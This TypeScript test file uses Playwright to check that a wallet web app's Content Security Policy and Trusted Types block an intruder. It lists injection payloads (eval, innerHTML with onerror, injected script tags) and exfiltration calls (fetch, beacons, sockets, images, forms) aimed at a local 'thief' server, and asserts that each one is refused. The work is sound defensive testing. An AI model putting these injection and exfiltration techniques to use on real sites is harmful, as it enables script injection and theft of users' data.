import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { launchBrowser, type TestBrowser } from './support/browser.ts';
import { findSharedProduct } from './support/shared-product.ts';

/** What an intruder's code does; it runs in the page or the worker, as text where the tests' own tools would change it. */
type Deed = ((thief: string) => unknown) | string;
type Case = readonly [name: string, directive: string, deed: Deed];

const product = findSharedProduct();
let browser: TestBrowser;
let thief: Server;
let thiefUrl: string;
/** What reached the thief. */
let loot: string[] = [];
let profile: BrowserContext;

beforeAll(async () => {
  browser = await launchBrowser();
  thief = createServer((request, response) => {
    loot.push(`${request.method} ${request.url}`);
    response
      .writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' })
      .end('self.robbed = 1');
  });
  await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve));
  thiefUrl = `http://127.0.0.1:${(thief.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await browser?.close();
  thief?.close();
});
beforeEach(async () => {
  loot = [];
  profile = await browser.newProfile({ locale: 'en-US' });
});
afterEach(() => profile.close());

/** Makes a page note each refusal of its policy, from before its first script on. */
async function openWatched(path: string): Promise<Page> {
  const page = await profile.newPage();
  await page.addInitScript(() => {
    const seen: string[] = [];
    Object.assign(globalThis, { refused: seen });
    addEventListener('securitypolicyviolation', ({ effectiveDirective, disposition }) => {
      if (disposition === 'enforce') seen.push(effectiveDirective);
    });
  });
  await page.goto(`${product.url}${path}`);
  return page;
}

/** Whether something came to be in time. */
async function comesTrue(look: () => Promise<boolean>): Promise<boolean> {
  const endsAt = Date.now() + 10_000;
  while (Date.now() < endsAt) if (await look()) return true;
  return false;
}

type World = { readonly evaluate: (text: string) => Promise<unknown> };
const readRefused = (world: World) => world.evaluate('globalThis.refused') as Promise<string[]>;

/** Has the deed done by a task of the page's own: what the test's tools call directly is above the policy. */
async function commit(world: World, deed: Deed): Promise<void> {
  const text = `setTimeout(() => { Promise.resolve().then(() => (${deed.toString()})(${JSON.stringify(thiefUrl)})).catch(() => undefined); }, 0)`;
  await world.evaluate(text);
}

/** Commits each deed, and sees it refused by the directive that is there for it and without any effect. */
async function expectRefusals(world: World, deeds: readonly Case[]): Promise<void> {
  for (const [name, directive, deed] of deeds) {
    const before = (await readRefused(world)).length;
    await commit(world, deed);
    let seen: readonly string[] = [];
    await comesTrue(async () => {
      seen = (await readRefused(world)).slice(before);
      return seen.includes(directive);
    });
    expect([name, seen]).toEqual([name, expect.arrayContaining([directive])]);
  }
  expect([await world.evaluate('globalThis.robbed'), loot]).toEqual([undefined, []]);
}

const textAsCode: readonly Case[] = [
  // biome-ignore lint/security/noGlobalEval: the policy must refuse it
  ['eval', 'require-trusted-types-for', () => globalThis.eval('self.robbed = 1')],
  ['a function made of text', 'require-trusted-types-for', () => new Function('self.robbed = 1')()],
  ['a timer made of text', 'require-trusted-types-for', () => setTimeout('self.robbed = 1' as never)],
  [
    'an element’s HTML',
    'require-trusted-types-for',
    () => Object.assign(document.body, { innerHTML: '<img src=x onerror="robbed = 1">' }),
  ],
  [
    'HTML beside an element',
    'require-trusted-types-for',
    () => document.body.insertAdjacentHTML('beforeend', '<p>x</p>'),
  ],
  ['a document that is written', 'require-trusted-types-for', () => document.write('<script>robbed = 1</script>')],
  ['a parsed document', 'require-trusted-types-for', () => new DOMParser().parseFromString('<p>x</p>', 'text/html')],
  [
    'the text of a script element',
    'require-trusted-types-for',
    () => document.body.append(Object.assign(document.createElement('script'), { text: 'self.robbed = 1' })),
  ],
  [
    'the address of a script element',
    'require-trusted-types-for',
    (url) => document.body.append(Object.assign(document.createElement('script'), { src: url })),
  ],
  ['a worker’s address', 'require-trusted-types-for', (url) => new Worker(url)],
  [
    'the address of a service worker',
    'require-trusted-types-for',
    () => navigator.serviceWorker.register('/assets/x.js'),
  ],
  [
    'a policy of its own for all that',
    'trusted-types',
    () =>
      (
        globalThis as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }
      ).trustedTypes.createPolicy('default', {}),
  ],
];

const waysOut: readonly Case[] = [
  ['a fetch', 'connect-src', (url) => fetch(url, { mode: 'no-cors' })],
  [
    'an old request',
    'connect-src',
    (url) => {
      const request = new XMLHttpRequest();
      request.open('POST', url);
      request.send('x');
    },
  ],
  ['a beacon', 'connect-src', (url) => navigator.sendBeacon(url, 'x')],
  ['a socket', 'connect-src', (url) => new WebSocket(url.replace('http', 'ws'))],
  ['a stream of events', 'connect-src', (url) => new EventSource(url)],
  ['an image', 'img-src', (url) => Object.assign(new Image(), { src: url })],
  [
    'a style sheet',
    'style-src-elem',
    (url) => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url })),
  ],
  ['a font', 'font-src', (url) => new FontFace('x', `url(${url})`).load()],
  ['a film', 'media-src', (url) => Object.assign(document.createElement('video'), { src: url }).load()],
  [
    'a frame',
    'frame-src',
    (url) => document.body.append(Object.assign(document.createElement('iframe'), { src: url })),
  ],
  ['a module', 'script-src-elem', '(url) => import(url + "/x.js")'],
  [
    'a form',
    'form-action',
    (url) => {
      const form = Object.assign(document.createElement('form'), { action: url, method: 'post' });
      document.body.append(form);
      form.submit();
    },
  ],
];

const insideKeyring: readonly Case[] = [
  ['a fetch', 'connect-src', (url) => fetch(url, { mode: 'no-cors' })],
  ['a fetch of this service', 'connect-src', () => fetch('/v1/chains')],
  [
    'an old request',
    'connect-src',
    () => {
      const request = new XMLHttpRequest();
      request.open('GET', '/v1/chains');
      request.send();
    },
  ],
  ['a socket', 'connect-src', (url) => new WebSocket(url.replace('http', 'ws'))],
  ['a stream of events', 'connect-src', (url) => new EventSource(url)],
  ['a module', 'script-src-elem', '(url) => import(url + "/x.js")'],
  // biome-ignore lint/security/noGlobalEval: the policy must refuse it
  ['eval', 'require-trusted-types-for', () => globalThis.eval('self.robbed = 1')],
  ['a worker of its own', 'require-trusted-types-for', (url) => new Worker(url)],
];

describe('the policy of the page', () => {
  it('lets no text become code', async () => {
    const page = await openWatched('/login');
    await expectRefusals(page, textAsCode);
  });

  it('lets nothing out to another origin', async () => {
    const page = await openWatched('/login');
    await expectRefusals(page, waysOut);
  });

  it('refuses markup that somebody got into the page itself', async () => {
    const markup = `<script>robbed = 1</script><img src="/seal.svg" onload="robbed = 1"><script src="${thiefUrl}/x.js"></script>
      <base href="${thiefUrl}/"><iframe srcdoc="<p>x</p>"></iframe><object data="${thiefUrl}/o"></object><style>p { color: red }</style>`;
    await profile.route(`${product.url}/login`, async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: (await response.text()).replace('<body>', `<body>${markup}`) });
    });
    const page = await openWatched('/login');
    // The wallet works beside it: its own files are not touched.
    await page.getByLabel('E-mail').waitFor();
    const wanted = ['script-src-elem', 'script-src-attr', 'base-uri', 'object-src', 'style-src-elem'];
    const hasAll = async () => {
      const seen = await readRefused(page);
      return (
        wanted.every((directive) => seen.includes(directive)) &&
        seen.filter((one) => one === 'script-src-elem').length >= 2
      );
    };
    expect(await comesTrue(hasAll)).toBe(true);
    expect([await page.evaluate('globalThis.robbed'), loot]).toEqual([undefined, []]);
  });

  it('comes with the other headers that keep strangers out, on pages and answers', async () => {
    for (const path of ['/', '/login', '/pay/x', '/sw.js', '/v1/chains', '/v1/nothing']) {
      const { headers } = await fetch(`${product.url}${path}`);
      expect([path, Object.fromEntries(headers)]).toEqual([
        path,
        expect.objectContaining({
          'cross-origin-opener-policy': 'same-origin',
          'cross-origin-resource-policy': 'same-origin',
          'permissions-policy': expect.stringContaining('camera=(self)'),
          'referrer-policy': 'no-referrer',
          'x-content-type-options': 'nosniff',
          'content-security-policy': expect.stringMatching(/^(?!.*unsafe).*require-trusted-types-for 'script'/),
        }),
      ]);
    }
  });
});

describe('the policy of the keyring', () => {
  it('is sent with each of its files, and forbids all connections', async () => {
    const body = await (await fetch(`${product.url}/sw.js`)).text();
    const files = [...new Set(body.match(/\/assets\/keyring[^"]*\.js/g))];
    expect(files.length).toBeGreaterThan(8);
    for (const file of files) {
      const policy = (await fetch(`${product.url}${file}`)).headers.get('content-security-policy');
      expect([file, policy]).toEqual([
        file,
        expect.stringContaining("default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; connect-src 'none'"),
      ]);
      expect(policy).toContain("trusted-types 'none'");
    }
  });

  it('holds inside the running worker: neither this service nor anybody else is reached, and text becomes no code', async () => {
    const page = await openWatched('/login');
    const started = page.waitForEvent('worker');
    await page.getByLabel('E-mail').fill('nobody@example.com');
    await page.getByLabel('Password', { exact: true }).fill('lantern harbour quiet maple');
    await page.getByRole('button', { name: 'Log in', exact: true }).click();
    const worker = await started;
    // Its own files are loaded and it answers before it is asked to misbehave.
    await page.getByRole('alert').waitFor();
    await worker.evaluate(() => {
      const seen: string[] = [];
      Object.assign(globalThis, { refused: seen });
      addEventListener('securitypolicyviolation', (event) =>
        seen.push((event as SecurityPolicyViolationEvent).effectiveDirective),
      );
    });
    const answered: string[] = [];
    profile.on('response', (response) => answered.push(response.url()));
    await expectRefusals(worker, insideKeyring);
    expect(answered.filter((url) => url.includes('/v1/') || url.startsWith(thiefUrl))).toEqual([]);
  });
});
